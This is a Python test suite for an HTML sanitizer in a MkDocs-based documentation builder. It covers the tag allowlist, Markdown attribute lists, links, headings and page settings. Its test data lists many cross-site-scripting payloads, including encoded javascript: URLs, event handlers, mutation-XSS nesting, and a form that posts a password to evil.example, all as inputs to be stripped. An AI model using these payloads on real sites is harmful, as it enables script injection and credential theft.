"""The sanitizer's allowlist, attribute lists and links in Markdown, and page settings."""

from __future__ import annotations

import re
from pathlib import Path

import markdown
import nh3
import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st
from mkdocs.utils.meta import get_data

from tests.conftest import copy_example
from tests.hostile import handlers_and_script_addresses
from vmv.app.pipeline import build_site
from vmv.core.markdown import sanitize
from vmv.core.markdown.sanitize import ELEMENTS, clean_html
from vmv.core.model.page_settings import allowed_settings
from vmv.core.site.extensions import MarkdownExtensions
from vmv.engine.mkdocs import build as mkdocs_engine

# -- the allowlist ----------------------------------------------------------------------

FORM = (
    '<form action="https://evil.example/" method="post"><input name="password" type="file">'
    '<button formaction="https://evil.example/" type="submit">Send</button></form>'
)

# fmt: off
ATTACKS = [
    ('<input autofocus onfocus="alert(1)">', "<input>"),
    ('<svg onload="alert(1)"><circle r="1"/></svg>', '<svg><circle r="1"></circle></svg>'),
    ('<a href="&#106;avascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="javas&#x09;cript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="  JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', "<a>x</a>"),
    ('<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>"),
    ('<img src=x onerror="alert(1)">', '<img src="x">'),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', ""),
    ("<math><mi><style><img src=x onerror=alert(1)></style></mi></math>", ""),
    ('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<svg></svg><p></p><img src="1">"&gt;'),
    ('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "<svg><a><text>x</text></a></svg>"),
    ('<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', "<svg></svg>"),
    (FORM, '<form><input name="password"><button>Send</button></form>'),
    ('<meta http-equiv="refresh" content="0; url=javascript:alert(1)">', ""),
    ('<base href="https://evil.example/">', ""),
    ("<style>body { display: none }</style>", ""),
    ("<script>window.__xss = 1</script>", ""),
    ("<!-- <script>alert(1)</script> -->", ""),
    ('<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">', ""),
    ("<template><img src=x onerror=alert(1)></template>", ""),
    ('<x-y onclick="alert(1)">t</x-y>', "t"),
    ('<p style="background: url(javascript:alert(1))">x</p>', "<p>x</p>"),
    ('<table><tr><td style="text-align: left; position: fixed">x</td></tr></table>',
     '<table><tbody><tr><td style="text-align:left">x</td></tr></tbody></table>'),
    ('<details open ontoggle="alert(1)"><summary>s</summary></details>',
     '<details open=""><summary>s</summary></details>'),
    # Material reads its settings from the first element with this id, after the page's content.
    ('<p id="__config">{"search": "data:,"}</p>', '<p>{"search": "data:,"}</p>'),
    ('<p id="&#95;_config">x</p>', "<p>x</p>"),
    # The edition banner's script follows these attributes: only vmv's theme sets them.
    ('<a data-vmv-latest data-vmv-base="javascript:alert(1)">x</a>', "<a>x</a>"),
]
# fmt: on


@pytest.mark.parametrize(("html", "kept"), ATTACKS)
def test_the_sanitizer_keeps_only_what_is_allowed(html: str, kept: str) -> None:
    assert clean_html(html) == kept


@pytest.mark.parametrize(
    "html",
    [
        '<p class="vmv-page-meta">Kept by Dana. <a href="../../playbook/x/#q-1" title="t">Edit</a>.</p>\n',
        '<a href="https://e.example/?a=1&amp;b=2">q</a> <a href="mailto:a@b.example">m</a> <a href="tel:+4412">t</a>',
        '<h2 id="why">Why<a class="headerlink" href="#why" title="Permanent link">&para;</a></h2>',
        "<p>It&#39;s &#34;ours&#34; &amp; <br />theirs</p><hr />",
        '<p data-vmv-needs-script hidden><button type="button" class="md-button" data-vmv-print>Print</button></p>',
        '<svg class="vmv-chart" viewBox="0 0 9 9" role="img" xmlns="http://www.w3.org/2000/svg"><path d="M0"/></svg>',
        '<table><thead><tr><th style="text-align: center;">a</th></tr></thead></table>',
    ],
)
def test_plain_allowed_html_keeps_its_bytes(html: str) -> None:
    assert clean_html(html) == html


def test_a_site_with_nothing_unsafe_keeps_its_bytes(
    built_example: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every page of the example is plain allowed HTML: without the sanitizer, the same bytes."""
    monkeypatch.delitem(mkdocs_engine.REQUIRED_EXTENSIONS, "vmv.core.markdown.sanitize")
    root = copy_example(tmp_path / "example")
    build_site(root, root / "site")
    unsanitized, sanitized = root / "site", built_example / "site"
    files = sorted(path.relative_to(sanitized) for path in sanitized.rglob("*") if path.is_file())
    assert files == sorted(path.relative_to(unsanitized) for path in unsanitized.rglob("*") if path.is_file())
    changed = [file for file in files if (sanitized / file).read_bytes() != (unsanitized / file).read_bytes()]
    assert changed == []


IN_SVG = {"circle", "desc", "line", "path", "polyline", "text", "title"}
ONLY_IN_THEIR_PARENT = {"td", "th", "tr", "tbody", "thead", "option"}
"""Elsewhere the parser drops them; the site builds cover them."""


def _usable_value(tag: str, name: str) -> str:
    restricted = sanitize.ATTRIBUTE_VALUES.get(tag, {}).get(name)
    if restricted:
        return sorted(restricted)[0]
    return {"href": "page.md", "src": "image.png"}.get(name, "v")


@pytest.mark.parametrize("tag", sorted(set(ELEMENTS) - ONLY_IN_THEIR_PARENT))
def test_every_allowed_element_keeps_its_allowed_attributes(tag: str) -> None:
    names = ELEMENTS[tag] | sanitize.GLOBAL_ATTRIBUTES
    attributes = " ".join(f'{name}="{_usable_value(tag, name)}"' for name in sorted(names))
    html = f'<{tag} {attributes} onclick="alert(1)"></{tag}>'
    kept = BeautifulSoup(clean_html(f"<svg>{html}</svg>" if tag in IN_SVG else html), "html.parser").find(tag)
    assert kept is not None
    assert set(kept.attrs) == {name.lower() for name in names}


# Pieces of markup, so that examples often hold nothing but allowed tags, and often not.
# fmt: off
_PIECES = st.sampled_from([
    "<p>", "</p>", "<a>", "</a>", '<a href="x.md">', '<a href="javascript:x">', '<a href="&#106;avascript:x">',
    '<a href="https://e.example/?a&amp;b">', "<svg>", "</svg>", "<title>", "</title>", "<math>", "<style>",
    "<script>", "</script>", "<textarea>", "<x-y>", '<p class="c" id="i" title="&lt;t&gt;">', '<p onclick="x">',
    '<img src="i.png" alt="a" />', "<img src=x onerror=y>", '<td style="text-align: left;">', '<td style="top: 0">',
    '<input type="radio" checked>', '<input type="file">', "<br />", "<!-- c -->", "<!", "<", ">", "&", "&lt;",
    '"', "'", "=", "/", " ", "\n", "\t", "\f", "\x00", "\u00a0", "text", "<P>", '<p\fclass="c">',
    '<p/onclick="x">', '<p class="c"onclick="x">', "<a href='x'>", "<a href=x>", '<svg viewBox="0 0 1 1"><path d="M0"/>',
    "<p>a</p>", '<a href="x.md">b</a>', "<em>c</em>", '<svg viewBox="0 0 1 1"><title>t</title><path d="M0"/></svg>',
    '<p title="&lt;q&gt;">d &amp; e</p>', '<a href="javascript:x">f</a>', '<p id="__config">g</p>', "<ul><li>h</li></ul>",
])
# fmt: on


def _everything_kept(html: str) -> nh3.Cleaner:
    """A cleaner that keeps every element, attribute and address of `html`: nothing to drop."""
    names = {name.lower() for name in re.findall(r"<([A-Za-z][^\t\n\f\r />]*)", html)}
    return nh3.Cleaner(
        tags=names | set(ELEMENTS),
        clean_content_tags=set(),
        generic_attribute_prefixes={""},
        url_schemes={"http", "https", "mailto", "tel", "javascript", "data", "vbscript"},
        filter_style_properties=set(sanitize.STYLE_PROPERTIES),
        link_rel=None,
    )


@settings(max_examples=500)
@given(st.lists(_PIECES, max_size=14).map("".join))
def test_html_kept_byte_for_byte_is_html_nh3_would_keep_whole(html: str) -> None:
    if sanitize._plainly_allowed(html):
        assert sanitize._CLEANER.clean(html) == _everything_kept(html).clean(html)
        # And it leaves the page around it as it found it: what follows is not inside it.
        around = f'<div>{html}</div><span id="after">x</span>'
        assert _everything_kept(around).clean(around).endswith('</div><span id="after">x</span>')


@pytest.mark.parametrize(
    "html",
    [
        '<p/onclick="x">',
        '<p class="c"onclick="x">',
        "<p\fonclick=x>",
        "<a href='javascript:x'>",
        "<!--><p>",
        "a < b",
        "<p>unclosed",
        "<title>outside an SVG</title>",
        "<svg><p>breaks out of the SVG</p></svg>",
    ],
)
def test_near_misses_of_the_plain_form_go_through_nh3(html: str) -> None:
    assert not sanitize._plainly_allowed(html)


# -- Markdown -------------------------------------------------------------------------------


def _markdown() -> markdown.Markdown:
    return markdown.Markdown(
        extensions=list(mkdocs_engine.REQUIRED_EXTENSIONS),
        extension_configs=mkdocs_engine.REQUIRED_EXTENSIONS,
    )


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("[x](https://a.example){ onclick=alert(1) }", '<p><a href="https://a.example">x</a></p>'),
        ("## Why { onmouseover=alert(1) }", '<h2 id="why">Why<a class="headerlink" href="#why"'),
        ("- item\n{: onclick=alert(1) }", "<li>item</li>"),
        ("Text\n{ onclick=alert(1) autofocus onfocus=alert(2) }", "<p>Text</p>"),
        ("![d](x.png){ onerror=alert(1) }", '<img alt="d" src="x.png">'),
        (
            "[e](&#106;avascript:alert(1)) [f](java&#x09;script:alert(1))",
            "<p><span>e</span> <span>f</span></p>",
        ),
        ("![g](data:text/html,x)", "<span>g</span>"),
        ('{"search": "data:,"}\n{: #__config }', '<p>{"search": "data:,"}</p>'),
        ("## __config", "<h2>__config"),
    ],
)
def test_attribute_lists_and_markdown_links_keep_no_script(text: str, kept: str) -> None:
    html = _markdown().convert(text)
    assert kept in html
    assert handlers_and_script_addresses(html) == []


@pytest.mark.parametrize(
    ("heading", "entry"),
    [
        ("A <img src=x onerror=alert(1)> b &amp; c", "A b &amp; c"),
        ('x <img src="x>" onerror="alert(1)">', "x"),
        ("`<img src=x onerror=alert(1)>`", "&lt;img src=x onerror=alert(1)&gt;"),
        ("<<img>img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ("<!-- <img src=x onerror=alert(1)> -->y", "y"),
        ('Why { data-toc-label="<img src=x onerror=alert(1)>a &lt; b" }', "a &lt; b"),
        ('It\'s "fine"', 'It\'s "fine"'),
    ],
)
def test_a_heading_is_text_in_the_table_of_contents(heading: str, entry: str) -> None:
    """Material prints each entry as it is; Python-Markdown's toc strips tags and keeps text escaped."""
    converter = _markdown()
    converter.convert(f"## {heading}\n")
    assert converter.toc_tokens[0]["name"] == entry  # type: ignore[attr-defined]


def test_the_sanitizer_runs_after_every_extension_a_site_may_turn_on() -> None:
    names = [field.alias or name for name, field in MarkdownExtensions.model_fields.items()]
    converter = markdown.Markdown(extensions=[*names, *mkdocs_engine.REQUIRED_EXTENSIONS])
    assert [processor.name for processor in converter.postprocessors._priority][-1] == "vmv_sanitize"


# -- page settings --------------------------------------------------------------------------

ALLOWED = {"hide": ["navigation", "toc"], "search": {"boost": 3}}


@pytest.mark.parametrize(
    ("page", "read"),
    [
        ("---\ntemplate: redirect.html\nlocation: javascript:alert(1)\n---\n# T\n", {}),
        (
            "---\nhide: [navigation, toc, nonsense]\nsearch:\n  boost: 3\n  x: 1\ntitle: <b>\n---\n# T\n",
            ALLOWED,
        ),
        ("template: redirect.html\nlocation: javascript:alert(1)\n\n# T\n", {}),
        ("\ufeff---\ntitle: </title><script>alert(1)</script>\n---\n# T\n", {}),
        ("---\n[unclosed\n---\n# T\n", {}),
    ],
)
def test_a_page_starts_with_the_allowed_settings_only(page: str, read: dict[str, object]) -> None:
    """As MkDocs reads them."""
    assert get_data(allowed_settings(page))[1] == read


def test_a_page_without_settings_is_left_as_it_is() -> None:
    assert allowed_settings("# Title\n\nText: more.\n") == "# Title\n\nText: more.\n"
